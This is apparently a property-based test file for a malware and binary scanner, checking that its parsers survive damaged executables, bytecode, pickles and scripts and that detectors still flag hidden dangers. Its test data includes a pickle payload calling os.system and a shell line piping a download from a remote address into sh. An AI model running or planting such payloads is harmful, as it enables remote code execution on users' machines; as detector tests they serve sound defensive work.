"""Whatever the bytes are, what reads them gives an answer, and raises nothing but its own."""

import ast
import dis
import pickle
import types

from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.binary.contents import Kind
from airlock.binary.instructions import guess_version, instructions
from airlock.binary.languages import Language
from airlock.binary.marks import find_marks
from airlock.binary.marshalled import BrokenMarshal, read_code
from airlock.binary.native import read_native
from airlock.binary.notebook_cells import read_cells
from airlock.binary.opcodes import walk
from airlock.binary.pickled import dangers
from airlock.binary.script_deeds import deeds
from airlock.binary.transcript import transcribe
from airlock.binary.wrapping import detect, unwrap
from tests.checks.compiling import marshalled
from tests.checks.programs import elf, macho, pe
from tests.unit.binary.compiled_samples import SAMPLES

PROGRAMS = [
    (elf(b"text", imports=["system"], exports=["PyInit_a"], constructors=1), Kind.ELF),
    (pe(b"text", imports={"KERNEL32.dll": ["WinExec"], "a.dll": ["b", "c"]}), Kind.PE),
    (macho(b"text"), Kind.MACHO),
]
MODULES = [
    *SAMPLES.values(),
    b"0" * 16
    + marshalled("import os\nwith a as b:\n    c = [d for e in f if g]\n    os.h(*i, **j)\n"),
    b"0" * 16
    + marshalled("class A(B):\n    async def m(self, *a):\n        await n\n        yield o\n"),
]


@st.composite
def damaged(draw: st.DrawFn, data: bytes, *, start: int = 0) -> bytes:
    """Bytes of a file of which some are others, or of which the end is missing."""
    changed = bytearray(data)
    places = st.integers(start, max(start, len(data) - 1))
    for place, value in draw(st.lists(st.tuples(places, st.integers(0, 255)), max_size=12)):
        changed[place] = value
    return bytes(changed[: draw(st.integers(start, len(data)))] if draw(st.booleans()) else changed)


@given(st.sampled_from(PROGRAMS).flatmap(lambda one: st.tuples(damaged(one[0]), st.just(one[1]))))
def test_tables_of_programs(given_: tuple[bytes, Kind]) -> None:
    data, kind = given_
    assert read_native(data, kind).kind is kind


@given(st.lists(st.binary(max_size=300), max_size=5))
def test_marks_do_not_depend_on_how_a_content_is_cut(chunks: list[bytes]) -> None:
    told = {(mark.topic, mark.text, mark.offset) for mark in find_marks(chunks)}
    assert told == {(mark.topic, mark.text, mark.offset) for mark in find_marks([b"".join(chunks)])}


@given(st.one_of(st.binary(max_size=400), st.sampled_from(MODULES).flatmap(damaged)))
@settings(max_examples=200)
def test_code_is_read_or_refused_and_written_down(data: bytes) -> None:
    for at in (0, 8, 12, 16):
        try:
            code = read_code(data[at:])
        except BrokenMarshal:
            continue
        version = guess_version(code)
        assert all(one.offset < len(code.code) for one in instructions(code, version))
        assert isinstance(transcribe(code, version), str)


def _names(code: types.CodeType) -> set[str]:
    """Return the names that instructions use; compilers also keep what dropped code used."""
    loaded = [one.argval for one in dis.get_instructions(code)]
    inner = [value for value in loaded if isinstance(value, types.CodeType)]
    return {value for value in loaded if isinstance(value, str)}.union(*map(_names, inner))


EXPRESSIONS = st.recursive(
    st.sampled_from(["alpha", "beta.gamma", "1", "'text'", "None", "(2, 3)", "delta()"]),
    lambda inner: st.one_of(
        st.builds("epsilon({}, key={})".format, inner, inner),
        st.builds("({} + {})".format, inner, inner),
        st.builds("{}[{}]".format, st.just("zeta"), inner),
        st.builds("[{}, {}]".format, inner, inner),
        st.builds("{{'k': {}}}".format, inner),
        st.builds("(lambda eta: {})".format, inner),
        st.builds("({} if {} else {})".format, inner, inner, inner),
        st.builds("[theta for theta in {}]".format, inner),
        st.builds("f'{{{}}}'".format, st.just("iota")),
    ),
    max_leaves=6,
)
STATEMENTS = st.one_of(
    st.builds("kappa = {}".format, EXPRESSIONS),
    st.builds("{}".format, EXPRESSIONS),
    st.builds("if {}:\n    {}".format, EXPRESSIONS, EXPRESSIONS),
    st.builds("for lam in {}:\n    {}".format, EXPRESSIONS, EXPRESSIONS),
    st.builds("def mu(nu={}):\n    return {}".format, EXPRESSIONS, EXPRESSIONS),
    st.builds("with {} as xi:\n    {}".format, EXPRESSIONS, EXPRESSIONS),
    st.builds("class Pi({}):\n    rho = {}".format, EXPRESSIONS, EXPRESSIONS),
    st.builds("import sigma.tau as {}".format, st.sampled_from(["upsilon", "phi"])),
)


@given(st.lists(STATEMENTS, min_size=1, max_size=5))
def test_what_is_written_down_is_source_text_with_all_imports_and_calls(lines: list[str]) -> None:
    source = "\n".join(lines) + "\n"
    text = transcribe(read_code(marshalled(source)))
    ast.parse(text)
    compiled = _names(compile(source, "module.py", "exec"))
    for called in compiled & {"epsilon", "delta"}:
        assert f"{called}(" in text
    assert ("import sigma.tau" in text) == ("sigma.tau" in compiled)


@given(st.one_of(st.binary(max_size=200), damaged(pickle.dumps({"a": [1, ("b", None)]}, 4))))
def test_pickles_are_walked_to_an_end(data: bytes) -> None:
    walked = walk(data)
    assert 0 <= walked.rest <= len(data) + 1
    assert all(danger.offset <= len(data) for danger in dangers(data))


@given(st.binary(max_size=60), st.binary(max_size=20))
def test_nothing_before_or_behind_hides_a_call_in_a_pickle(before: bytes, behind: bytes) -> None:
    call = b"cos\nsystem\n(S'true'\ntR."
    hidden = pickle.dumps(before, 2) + call + behind
    assert "os.system" in {danger.name for danger in dangers(hidden)}


@given(st.text(max_size=300), st.sampled_from(list(Language)))
def test_scripts_of_any_text(text: str, language: Language) -> None:
    for deed in deeds(text.encode("utf-8", "surrogatepass"), language):
        assert 1 <= deed.line <= text.count("\n") + text.count("\r") + 1


@given(st.text(alphabet="ab \t.-_/", max_size=40), st.text(alphabet="ab \t.-_/\n", max_size=40))
def test_nothing_before_or_behind_hides_a_command(before: str, behind: str) -> None:
    script = f"{before}\ncurl http://198.51.100.7/x | sh\n{behind}"
    assert "fetch and run" in {deed.kind for deed in deeds(script.encode(), Language.SHELL)}


@given(st.binary(max_size=300))
def test_encodings_are_undone_or_not(data: bytes) -> None:
    layer = detect(data)
    assert isinstance(unwrap(data, layer) if layer else b"", bytes)
    read_cells(data)
